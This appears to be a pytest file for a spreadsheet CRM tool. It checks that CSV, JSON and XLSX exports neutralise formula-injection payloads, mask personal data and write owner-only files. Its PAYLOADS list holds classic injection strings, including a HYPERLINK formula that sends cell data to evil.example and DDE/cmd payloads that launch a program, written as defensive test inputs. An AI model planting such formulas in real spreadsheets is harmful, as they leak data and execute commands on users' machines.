"""Formula injection and personal data: classic payloads through every export path."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from sheetcrm.cli import main
from sheetcrm.privacy import mask_email, mask_phone, mask_text, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
#: Cells are read with surrounding whitespace trimmed, so "\t=1+1" arrives as "=1+1".
STORED = [p.strip() for p in PAYLOADS]


def _shop(make_workbook):
    rows = [["顧客ID", "氏名", "メール", "電話", "備考"]]
    for i, payload in enumerate(PAYLOADS):
        rows.append([f"C{i:03d}", payload, f"user{i}@example.com", f"090-1234-{i:04d}", payload])
    orders = [["注文日", "顧客ID", "金額"]] + [
        ["2024/1/5", f"C{i:03d}", 1000] for i in range(len(PAYLOADS))
    ]
    return make_workbook({"顧客": rows, "注文": orders})


def _export(path: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["export", str(path), "--as-of", "2024-12-31", *args])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_every_formula_trigger(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


def test_plain_text_and_numbers_are_not_touched() -> None:
    assert neutralise("山田太郎") == "山田太郎"
    assert neutralise("taro@example.com") == "taro@example.com"


def test_csv_export_neutralises_payloads_and_raw_keeps_them(make_workbook) -> None:
    path = _shop(make_workbook)
    safe = list(csv.DictReader(io.StringIO(_export(path, "--table", "customers"))))
    assert sorted(r["name"] for r in safe) == sorted("'" + p for p in STORED)
    assert all(r["notes"].startswith("'") for r in safe)
    raw = list(csv.DictReader(io.StringIO(_export(path, "--table", "customers", "--raw"))))
    assert sorted(r["name"] for r in raw) == sorted(STORED)


def test_json_export_keeps_text_exactly(make_workbook) -> None:
    path = _shop(make_workbook)
    rows = json.loads(_export(path, "--table", "customers", "--format", "json"))
    assert sorted(r["name"] for r in rows) == sorted(STORED)


def test_xlsx_output_stores_payloads_as_text(make_workbook) -> None:
    path = _shop(make_workbook)
    result = CliRunner().invoke(
        main, ["refresh", str(path), "--as-of", "2024-12-31", "--no-backup"]
    )
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(path)["顧客分析"]
    names = {c.value: c.data_type for c in sheet["B"][1:] if c.value}
    assert set(names) == set(STORED)
    assert set(names.values()) == {"s"}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_opens_the_neutralised_csv_as_text(make_workbook, tmp_path: Path) -> None:
    path = _shop(make_workbook)
    out = tmp_path / "customers.csv"
    CliRunner().invoke(
        main, ["export", str(path), "--table", "customers", "--as-of", "2024-12-31", "-o", str(out)]
    )
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(out)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = openpyxl.load_workbook(tmp_path / "customers.xlsx").active
    header = [c.value for c in sheet[1]]
    column = header.index("name") + 1
    for row in sheet.iter_rows(min_row=2):
        cell = row[column - 1]
        assert cell.data_type == "s", cell.value  # shown as text, never evaluated


def test_mask_export_hides_personal_data(make_workbook) -> None:
    path = _shop(make_workbook)
    rows = json.loads(_export(path, "--table", "customers", "--format", "json", "--mask"))
    assert {r["email"][:5] for r in rows} == {"u***@"}
    assert all(
        r["phone"].startswith("+81-****-")
        or r["phone"].startswith("+819-****")
        or "****" in r["phone"]
        for r in rows
    )


def test_check_masks_personal_values_unless_asked(make_workbook) -> None:
    path = make_workbook({"顧客": [["氏名", "メール"], ["山田", "taro@@example.com"]]})
    masked = CliRunner().invoke(main, ["check", str(path)])
    assert "taro@@example.com" not in masked.output and "t***@" in masked.output
    shown = CliRunner().invoke(main, ["check", str(path), "--show-pii"])
    assert "taro@@example.com" in shown.output


def test_masks() -> None:
    assert mask_email("taro@example.com") == "t***@example.com"
    assert mask_phone("090-1234-5678") == "090-****-5678"
    assert mask_text("山田太郎") == "山***"


def test_export_file_is_owner_only(make_workbook, tmp_path: Path) -> None:
    path = _shop(make_workbook)
    out = tmp_path / "c.csv"
    CliRunner().invoke(
        main, ["export", str(path), "--table", "customers", "-o", str(out), "--as-of", "2024-12-31"]
    )
    assert out.stat().st_mode & 0o777 == 0o600
